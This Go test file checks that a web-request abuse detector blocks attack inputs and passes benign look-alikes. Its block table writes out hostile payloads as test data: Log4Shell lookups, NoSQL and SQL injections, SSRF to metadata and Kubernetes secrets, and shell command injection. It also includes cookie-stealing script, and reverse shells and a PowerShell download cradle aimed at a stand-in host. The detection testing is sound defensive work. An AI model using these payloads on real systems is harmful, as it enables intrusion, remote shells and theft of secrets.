package payload

import (
	"context"
	"net/http"
	"net/url"
	"testing"

	"github.com/warden-dev/warden/abuse"
)

// Attacks where the value executes (a header a Java logger formats, an
// operator object a MongoDB query receives, a URL the server fetches, a
// string an SQL statement or shell command line closes, an expression a
// template evaluates) must block, and their look-alikes must not. The
// cases are written for these tests, not taken from an evaluation
// corpus.

// withHeaders returns a GET / with exactly the headers h.
func withHeaders(h ...string) *abuse.Request {
	r := get("/")
	for i := 0; i+1 < len(h); i += 2 {
		r.Header.Set(h[i], h[i+1])
		if h[i] == "User-Agent" {
			r.UserAgent = h[i+1]
		}
	}
	return r
}

// query returns a GET with one query parameter, escaped.
func query(name, value string) *abuse.Request {
	return get("/p?" + url.QueryEscape(name) + "=" + url.QueryEscape(value))
}

const browserUA = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36"

var recallBlock = []struct {
	name string
	req  *abuse.Request
}{
	// Log4Shell in headers that are otherwise skipped as structural,
	// with few headers (the probed fast path) and with many (the walk).
	{"jndi in x-request-id", withHeaders("User-Agent", browserUA, "X-Request-Id", "${jndi:rmi://evil.example/a}", "Accept-Language", "en", "Dnt", "1", "Sec-Fetch-Mode", "cors")},
	{"jndi in accept, few headers", withHeaders("User-Agent", browserUA, "Accept", "${jndi:ldap://evil.example/x}")},
	{"jndi in authorization, few headers", withHeaders("Authorization", "Bearer ${jndi:dns://evil.example/t}")},
	{"nested lower lookups in cache-control", withHeaders("Cache-Control", "${${lower:jndi}:${lower:rmi}://x.example/a}", "X-Request-Id", "1", "Pragma", "no-cache", "Te", "trailers", "Via", "1.1 p")},
	{"default-value lookups in x-correlation-id", withHeaders("X-Correlation-Id", "${${::-j}${::-n}di:ldap://x.example/a}")},
	{"env lookups in if-none-match", withHeaders("If-None-Match", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x.example/a}")},

	// NoSQL operator objects and bracket names.
	{"login with $gt objects", post("application/json", `{"username": {"$gt": ""}, "password": {"$gt": ""}}`)},
	{"$where with code", post("application/json", `{"$where": "sleep(100)"}`)},
	{"$ne null", post("application/json", `{"user": {"$ne": null}, "pass": "x"}`)},
	{"$regex object", post("application/json", `{"email": {"$regex": ".*"}}`)},
	{"$in array", post("application/json", `{"role": {"$in": ["admin", "root"]}}`)},
	{"$elemMatch", post("application/json", `{"tags": {"$elemMatch": {"$exists": true}}}`)},
	{"bracket operator in a form", post("application/x-www-form-urlencoded", "user%5B%24ne%5D=x&pass%5B%24ne%5D=y")},
	{"bracket operator in a query", get("/login?user=admin&pass[$gt]=")},
	{"operators beside an empty query document", post("application/json", `{"filter":{},"username":{"$gt":""},"password":{"$gt":""}}`)},
	{"code operator inside a query document", post("application/json", `{"where":{"$where":"sleep(100) || true"}}`)},

	// SSRF: the whole value is a URL to an internal host.
	{"ssrf localhost", query("url", "http://localhost:80")},
	{"ssrf loopback", query("uri", "http://127.0.0.1")},
	{"ssrf ipv6 loopback", query("src", "http://[::1]/")},
	{"ssrf unspecified", query("link", "http://0.0.0.0:8080/")},
	{"ssrf short loopback", query("image", "http://127.1/")},
	{"ssrf decimal loopback", query("feed", "http://2130706433/admin")},
	{"ssrf hex loopback", query("endpoint", "http://0x7f000001/")},
	{"ssrf octal loopback", query("proxy", "http://0177.0.0.1/")},
	{"ssrf private in json", post("application/json", `{"webhook": "http://10.0.0.5:8080/hook"}`)},
	{"ssrf private in a form", post("application/x-www-form-urlencoded", "avatar=http%3A%2F%2F192.168.0.1%2Fadmin")},
	{"ssrf internal name", query("callback", "https://admin.internal/x")},
	{"ssrf any name", query("x", "http://127.0.0.1:6379/")},
	{"ssrf gcp metadata", query("fetch", "http://metadata.google.internal/computeMetadata/v1/")},
	{"ssrf aws ipv6 metadata", query("load", "http://[fd00:ec2::254]/latest/meta-data/")},

	// SQL: a quote closed and the rest of the statement commented out.
	{"sql quote then unclosed comment", query("user", "admin'/*")},
	{"sql quote then dashes", query("user", "admin'--")},
	{"sql quote then hash", query("user", "admin'#")},
	{"sql tautology then unclosed comment", query("user", "' OR 1=1/*")},
	{"sql inline comments", query("user", "1'/**/OR/**/1=1")},

	// Shell separators that start a command in a short value.
	{"cmd after a closed quote", query("host", "' & whoami")},
	{"cmd after a closed double quote", query("host", `x" ; id`)},
	{"cmd after a leading semicolon", query("host", "; id")},
	{"cmd after a leading pipe", query("host", "| id")},
	{"cmd after a leading and", query("host", "&& whoami")},
	{"cmd in backticks", query("host", "`id`")},
	{"cmd substitution", query("host", "$(id)")},
	{"cmd after an address", query("host", "127.0.0.1 | whoami")},
	{"cmd after a host name", query("host", "example.org && uname -a")},

	// Template expressions that reach the Function constructor.
	{"angular $on constructor", query("q", "{{$on.constructor('alert(1)')()}}")},
	{"angular constructor constructor", query("q", "{{constructor.constructor('alert(1)')()}}")},
	{"angular array method constructor", query("q", "{{[].pop.constructor('alert(1)')()}}")},
	{"angular prototype overwrite", query("q", "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };alert(1)//');}}")},
	{"el expression with class loading", query("q", "#{''.getClass().forName('java.lang.Runtime')}")},

	// Evasions whose grammar only a shell or a browser reads.
	{"program directory as a glob", query("prog", "/sb[i]n/ifconfig")},
	{"bin directory as a range glob", query("run", "/usr/[a-c]in/sh")},
	{"etc file as a glob", query("file", "/etc/sh?dow")},
	{"unset braced variable inside a command", query("host", "w${Z1}get evil.example/s")},
	{"char reference in an unquoted javascript url", post("application/json", `{"bio":"<a href=jav&Tab;ascript&colon;fetch('//x.example')>me</a>"}`)},
	{"script extension hidden by a space", withHeaders("X-File-Name", "avatar. php.jpg")},
	{"comment inside document.cookie", query("x", "document/**/.cookie")},
	{"comment inside a subscripted document", post("application/x-www-form-urlencoded", "a=%28document%2F%2Ax%2A%2F%29%5B%27cookie%27%5D")},
	{"utf-7 script tag", query("ref", "+ADw-script+AD4-")},
	{"command word from a brace expansion", query("x", "wh{o,e}ami")},
	{"ldap or term after a close", query("uid", "bob)(|")},
	{"ldap and term between terms", query("uid", "bob)&(mail=*")},
	{"php session file as an upload name", withHeaders("X-File-Name", "sess_0f1e2d3c4b5a69788796a5b4c3")},

	{"ldap absolute true filter", query("uid", "admin)(&)")},
	{"freemarker class built in a comment", post("application/json", `{"comment":"great post <#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")} thanks for sharing it with us"}`)},

	{"script string breakout with a call", query("id", "'-alert(1)-'")},
	{"script string breakout reading the cookie", query("name", `"+fetch('//x.example/'+document.cookie)+"`)},

	{"fetch url to the kubernetes api", query("url", "http://kubernetes.default.svc/api/v1/namespaces/default/secrets")},
	{"webhook to a cluster service", post("application/json", `{"webhook":{"url":"http://grafana.monitoring.svc:3000/api/admin"}}`)},
	{"fetch url to a home network name", query("image_url", "http://router.home.arpa/cgi-bin/config")},

	// Shells and scripts handed to a network peer, whole values.
	{"socat program address", query("host", "socat TCP:203.0.113.9:9001 EXEC:bash")},
	{"gawk network file", post("application/json", `{"target":"awk 'BEGIN{s=\"/inet/tcp/0/203.0.113.9/9001\";while(1){s|&getline c;print c|&s}}'"}`)},
	{"powershell tcp client", query("t", `powershell -nop -c "$c=New-Object System.Net.Sockets.TCPClient('203.0.113.9',9001)"`)},
	{"powershell download cradle", query("t", `IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')`)},
}

// recallGrey may be logged but must not block.
var recallGrey = []struct {
	name string
	req  *abuse.Request
}{
	{"loopback oauth redirect uri", get("/authorize?client_id=cli&redirect_uri=" + url.QueryEscape("http://127.0.0.1:8400/callback"))},
	{"localhost next link", query("next", "http://localhost:3000/home")},
	{"localhost in prose", post("application/json", `{"t":"start the server and open http://localhost:3000 in a browser"}`)},
	{"localhost referer", withHeaders("Referer", "http://localhost:3000/page")},
	{"database url", post("application/json", `{"database_url":"postgres://app@localhost:5432/app"}`)},
	{"sandbox escape shown in a document", post("application/json", `{"content":"AngularJS 1.5:\n`+"```"+`\n{{x.constructor('alert(1)')()}}\n`+"```"+`\n"}`)},
	{"spaced separator after several words", query("q", "the kids' & more")},
	{"balanced quotes before a pipe", query("q", "'a' | cat")},
	{"commented line reading the cookie", post("application/json", `{"code":"const c = document.cookie; /* session */"}`)},
	{"double extension upload name", withHeaders("X-File-Name", "index.php.png")},
	{"log files by glob", query("path", "/var/log/nginx/*.log")},
	{"job runner command", post("application/json", `{"schedule":"*/5 * * * *","command":"/usr/local/bin/backup.sh --full --target /srv/backups"}`)},
	// Query documents, the API's own query language (Parse, Strapi, the
	// MongoDB Data API): logged, not blocked.
	{"parse where query", post("application/json", `{"where":{"score":{"$gte":1000,"$lte":3000},"playerName":{"$ne":"cheater"}}}`)},
	{"data api filter", post("application/json", `{"dataSource":"c0","database":"shop","collection":"orders","filter":{"status":{"$in":["paid","shipped"]}},"sort":{"createdAt":-1}}`)},
	{"aggregation pipeline with a lookup", post("application/json", `{"pipeline":[{"$match":{"status":"A"}},{"$lookup":{"from":"users","localField":"uid","foreignField":"_id","as":"u"}}]}`)},
	{"strapi filters in a query string", get("/api/articles?filters[title][$eq]=hello&filters[$or][0][date][$eq]=2024-01-01&sort=date")},
	{"quoted concatenation without a call", query("expr", `"-" + x + "-"`)},
	{"glob with a trailing star", post("application/json", `{"t":"match 'src/*' and \"https://*/*\",\n\"storage\"\n]"}`)},
}

var recallBenign = []struct {
	name string
	req  *abuse.Request
}{
	{"uuid request id", withHeaders("X-Request-Id", "7f3c9a2e-1b4d-4c8e-9f0a-2d3e4f5a6b7c")},
	{"accept anything", withHeaders("Accept", "*/*")},
	{"unexpanded placeholder in a skipped header", withHeaders("X-Request-Id", "${requestId}", "Accept", "${accept}")},
	{"json schema", post("application/json", `{"$schema":"https://json-schema.org/draft/2020-12/schema","$id":"https://example.com/p","$ref":"#/$defs/item","$defs":{"item":{"type":"string"}}}`)},
	{"graphql variables", post("application/json", `{"query":"query($id: ID!) { user(id: $id) { name } }","variables":{"id":"42"}}`)},
	{"mongo update document", post("application/json", `{"$set": {"name": "Ann"}, "$inc": {"visits": 1}}`)},
	{"website field", post("application/x-www-form-urlencoded", "website=https%3A%2F%2Fexample.com%2Fabout")},
	{"relative redirect", query("redirect", "/dashboard")},
	{"public url", query("url", "https://example.com/feed.xml")},
	{"email in prose", query("q", "email me at x@y.com")},
	{"ampersand in a name", query("q", "Tom & Jerry")},
	{"template reading a property", query("q", "{{ item.constructor.name }}")},
	{"listing of a program directory", query("pattern", "/usr/bin/*")},
	{"api route with a wildcard", query("route", "/api/v1/users/*")},
	{"template variable ending a word", query("el", "id${n}")},
	{"brace expansion in a backup command", query("q", "cp nginx.conf{,.bak}")},
	{"rust use list", post("application/json", `{"code":"use std::{io,fs};"}`)},
	{"base64 with a plus", query("k", "q+ADwAbc9+xyz/AB==")},
	{"function call chained", query("q", "connect(mapState)(App)")},
	{"session-like upload name too short", withHeaders("X-File-Name", "sess_notes.txt")},
	{"rich text showing a command", post("application/json", `{"html":"<div class=\"note\" style=\"color:red;font-weight:bold\">Careful: run <code>rm -rf build/</code> only in the repo root.</div>"}`)},
	{"exec prefix in a config key", query("q", "exec:shutdown-hook")},
	{"ldap filter with an empty and", query("filter", "(&)")},
	{"quoted alternatives", query("sort", `'name' | 'date'`)},
	{"public host with svc in its name", query("url", "https://docs.svc.example.com/guide")},
	{"public host ending like a lan", query("url", "https://www.milan/")},
	{"quoted call without operators at both ends", query("title", `"Hello (world)"`)},
	{"freemarker new explained in prose", post("application/json", `{"comment":"In FreeMarker the ?new() built-in creates an object of a TemplateModel class; the docs list which classes are allowed by default"}`)},
	{"powershell cradle explained in markdown", post("application/json", `{"body":"## Detecting cradles\n\nAttackers often run `+"`IEX(New-Object Net.WebClient).DownloadString(url)`"+` to fetch a script; log PowerShell script blocks to see it.\n"}`)},
}

func TestRecall(t *testing.T) {
	d := newTestDetector(t)
	ctx := context.Background()
	for _, tc := range recallBlock {
		t.Run("block/"+tc.name, func(t *testing.T) {
			if v := d.Detect(ctx, tc.req); v.Confidence < 0.8 {
				t.Errorf("not blocked: %q %.2f %q", v.Violation, v.Confidence, v.Messages)
			}
		})
	}
	for _, tc := range recallGrey {
		t.Run("grey/"+tc.name, func(t *testing.T) {
			if v := d.Detect(ctx, tc.req); v.Confidence >= 0.8 {
				t.Errorf("blocked: %q %.2f %q", v.Violation, v.Confidence, v.Messages)
			}
		})
	}
	for _, tc := range recallBenign {
		t.Run("benign/"+tc.name, func(t *testing.T) {
			if v := d.Detect(ctx, tc.req); v.Confidence > 0.5 {
				t.Errorf("flagged: %q %.2f %q", v.Violation, v.Confidence, v.Messages)
			}
		})
	}
}

// TestLookupOnlySkippedHeaders checks that a skipped header is inspected
// for Log4Shell alone: an SQL or XSS payload in it stays unseen, as
// before, and a disabled Log4Shell class turns the lookup check off.
func TestLookupOnlySkippedHeaders(t *testing.T) {
	d := newTestDetector(t)
	ctx := context.Background()
	r := withHeaders("X-Request-Id", "1' or '1'='1' -- ${x}", "Accept", "<script>alert(1)</script>")
	if v := d.Detect(ctx, r); v.Confidence > 0 {
		t.Errorf("skipped headers inspected beyond Log4Shell: %q %.2f %q", v.Violation, v.Confidence, v.Messages)
	}
	cfg := DefaultConfig()
	cfg.Disable = []string{"log4shell"}
	d2, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	r = withHeaders("X-Request-Id", "${jndi:ldap://evil.example/a}")
	if v := d2.Detect(ctx, r); v.Confidence > 0 {
		t.Errorf("disabled class found: %q %.2f %q", v.Violation, v.Confidence, v.Messages)
	}
	// The same header, given as an extra header to inspect, is
	// inspected in full once, not twice.
	cfg = DefaultConfig()
	cfg.Headers = []string{"X-Request-Id"}
	d3, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	r = &abuse.Request{Method: "GET", Path: "/", Header: http.Header{"X-Request-Id": {"${jndi:ldap://evil.example/a}"}}}
	if v := d3.Detect(ctx, r); v.Confidence < 0.8 {
		t.Errorf("extra header not blocked: %q %.2f %q", v.Violation, v.Confidence, v.Messages)
	}
}
